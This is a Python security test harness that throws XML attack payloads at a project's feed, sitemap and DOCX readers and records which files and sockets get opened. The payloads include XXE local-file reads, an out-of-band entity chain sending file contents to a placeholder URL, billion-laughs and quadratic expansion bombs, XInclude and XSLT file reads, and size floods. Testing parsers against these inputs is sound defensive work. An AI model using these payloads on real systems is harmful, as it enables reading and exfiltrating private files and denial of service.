"""Attacks on readers of XML, and the process in which they are tried: `python -m tests.acquire.attacks feed FILE URL`.

Each is what stands before the first element, attributes of that, and what stands in a text. {file} is a file with words
that nobody may read, {url} an address at which somebody listens, {name} the file's name.
"""

import io
import json
import sys
import time
from collections.abc import Callable
from typing import NamedTuple

from bench.memory import peak

from onrecord.acquire.docx import from_docx
from onrecord.acquire.feed import read_feed
from onrecord.acquire.gathered import names_others
from onrecord.acquire.sitemap import read_sitemap
from onrecord.errors import ReadError
from tests.acquire.word import R, W, docx

HIDDEN = "hidden-words-of-another-file"
TITLE = "Norway buys two frigates"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_PARAMETERS = "".join(f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 10))
_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


class Attack(NamedTuple):
    """An attack; `encoding` is that in which it is written, if not UTF-8."""

    name: str
    head: str = ""
    attributes: str = ""
    inner: str = "&a;"
    encoding: str = "utf-8"


def _declared(*entities: str) -> str:
    return f"<!DOCTYPE x [{''.join(entities)}]>"


ATTACKS = (
    Attack("a file", _declared('<!ENTITY a SYSTEM "file://{file}">')),
    Attack("a file by its name alone", _declared('<!ENTITY a SYSTEM "{name}">')),
    Attack("a file by its path", _declared('<!ENTITY a SYSTEM "{file}">')),
    Attack("an address", _declared('<!ENTITY a SYSTEM "{url}">')),
    Attack("a public name", _declared('<!ENTITY a PUBLIC "-//x//y" "{url}">')),
    Attack("a file in an attribute", _declared('<!ENTITY a SYSTEM "file://{file}">'), 'x="&a;"', "y"),
    Attack("an unparsed entity", _declared('<!NOTATION n SYSTEM "{url}">', '<!ENTITY a SYSTEM "{url}" NDATA n>')),
    Attack("a parameter entity", _declared('<!ENTITY % p SYSTEM "{url}">%p;')),
    Attack("a parameter entity of a file", _declared('<!ENTITY % p SYSTEM "file://{file}">%p;')),
    Attack(
        "a file sent to an address",
        _declared(
            '<!ENTITY % f SYSTEM "file://{file}">',
            "<!ENTITY % p \"<!ENTITY &#37; s SYSTEM '{url}?%f;'>\">%p;%s;",
        ),
    ),
    Attack("an entity out of a parameter", _declared("<!ENTITY % p \"<!ENTITY a SYSTEM 'file://{file}'>\">%p;")),
    Attack("an external document type", '<!DOCTYPE x SYSTEM "{url}">'),
    Attack("one of a file", '<!DOCTYPE x SYSTEM "file://{file}" [<!ENTITY b "x">]>'),
    Attack("a public one", '<!DOCTYPE x PUBLIC "-//x//y" "{url}">'),
    Attack("a billion laughs", _declared('<!ENTITY l0 "ha">', _LAUGHS, '<!ENTITY a "&l9;">')),
    Attack("a billion of nothing", _declared('<!ENTITY l0 "">', _LAUGHS, '<!ENTITY a "&l9;">')),
    Attack("a billion parameters", _declared("<!ENTITY % p0 'ha'>", _PARAMETERS, "%p9;")),
    Attack("quadratic blow-up", _declared(f'<!ENTITY a "{"a" * 60_000}">'), inner="&a;" * 60_000),
    Attack("an entity in itself", _declared('<!ENTITY a "&a;">')),
    Attack("two in each other", _declared('<!ENTITY a "&b;&b;">', '<!ENTITY b "&a;&a;">')),
    Attack("XInclude", attributes=_XI, inner='<xi:include parse="text" href="file://{file}"/>'),
    Attack("XInclude of an address", attributes=_XI, inner='<xi:include href="{url}"/>'),
    Attack("a style sheet", '<?xml-stylesheet type="text/xsl" href="{url}"?><?xml-stylesheet href="file://{file}"?>'),
    Attack(
        "a transformation",
        attributes='xmlns:xsl="http://www.w3.org/1999/XSL/Transform"',
        inner="<xsl:copy-of select=\"document('file://{file}')\"/><xsl:include href='{url}'/>",
    ),
    Attack("a schema", attributes=f'{_XSI} xsi:schemaLocation="x {{url}}" xsi:noNamespaceSchemaLocation="{{url}}"'),
    Attack(
        "a base and a picture",
        attributes='xml:base="file://{file}" xmlns:l="http://www.w3.org/1999/xlink"',
        inner='<svg xmlns="http://www.w3.org/2000/svg"><image l:href="{url}"/><use l:href="file://{file}"/></svg>',
    ),
    Attack("hidden in UTF-16", _declared('<!ENTITY a SYSTEM "file://{file}">'), encoding="utf-16"),
    Attack("hidden in UTF-7", _declared('<!ENTITY a SYSTEM "file://{file}">'), encoding="utf-7"),
    Attack("hidden in UTF-32", _declared('<!ENTITY a SYSTEM "file://{file}">'), encoding="utf-32"),
    Attack("nested deeply", inner="<a>" * 100_000 + "</a>" * 100_000),
    Attack("attributes without end", attributes=" ".join(f'a{n}="{n * 7919}"' for n in range(200_000)), inner="x"),
    Attack("names without end", inner=f"<{'n' * 3_000_000}/><!--{'c' * 3_000_000}--><?{'p' * 3_000_000} ?>"),
    Attack("sections without end", inner="<![CDATA[]]>" * 300_000 + "<!---->" * 300_000 + "<?p?>" * 300_000),
)


def _feed(one: Attack) -> str:
    return (
        f'{one.head}<rss version="2.0" {one.attributes}><channel><title>Press</title><item>'
        f"<title>{TITLE}</title><link>https://m.example/{one.inner if '<' not in one.inner else ''}</link>"
        f"<description>{one.inner}</description></item></channel></rss>"
    )


def _sitemap(one: Attack) -> str:
    return (
        f'{one.head}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" {one.attributes}>'
        f"<url><loc>https://m.example/frigates</loc><lastmod>{one.inner}</lastmod></url></urlset>"
    )


def _main(one: Attack) -> str:
    paragraph = f"<w:p><w:r><w:t>{TITLE}. {one.inner}</w:t></w:r></w:p>"
    return f"{one.head}<w:document {W} {R} {one.attributes}><w:body>{paragraph}</w:body></w:document>"


def _read_feed(data: bytes) -> object:
    return names_others(data), read_feed(data, "feed.xml", url="https://m.example/feed.xml")


def _read_sitemap(data: bytes) -> object:
    return names_others(data), read_sitemap(data, "sitemap.xml", url="https://m.example/sitemap.xml")


CARRIERS: dict[str, tuple[Callable[[Attack], str], Callable[[bytes], object]]] = {
    "feed": (_feed, _read_feed),
    "sitemap": (_sitemap, _read_sitemap),
    "docx": (_main, lambda data: from_docx(docx(data), "a.docx", any_language=True).document.text),
}


def tried(carrier: str, file: str, url: str) -> list[dict[str, object]]:
    """What became of each attack: what was said, which files and sockets Python opened, seconds and megabytes."""
    write, read = CARRIERS[carrier]
    opened: list[str] = []

    def watch(event: str, arguments: tuple[object, ...]) -> None:
        if event == "open" or event.startswith(("socket.", "urllib.", "subprocess.", "os.exec", "os.system")):
            opened.append(f"{event} {arguments[:2]!r}")

    read(write(Attack("nothing", inner="words")).encode())  # so that what is loaded once is loaded
    sys.addaudithook(watch)
    told = []
    for one in ATTACKS:
        xml = write(one).replace("{file}", file).replace("{url}", url).replace("{name}", file.rpartition("/")[2])
        data = f'<?xml version="1.0" encoding="{one.encoding}"?>{xml}'.encode(one.encoding)
        before = peak()
        opened.clear()
        began = time.process_time()
        try:
            said, failed = repr(read(data)), False
        except ReadError as error:
            said, failed = str(error), True
        seconds = time.process_time() - began
        wanted = list(opened)  # what tells the memory opens a file too
        grown = (peak() - before) / 1024
        told.append({
            "name": one.name, "said": said[:2000], "failed": failed, "hidden": HIDDEN in said, "opened": wanted,
            "seconds": seconds, "grown": grown,
        })  # fmt: skip
    return told


if __name__ == "__main__":
    made = io.StringIO()
    json.dump(tried(*sys.argv[1:4]), made)
    print(made.getvalue())
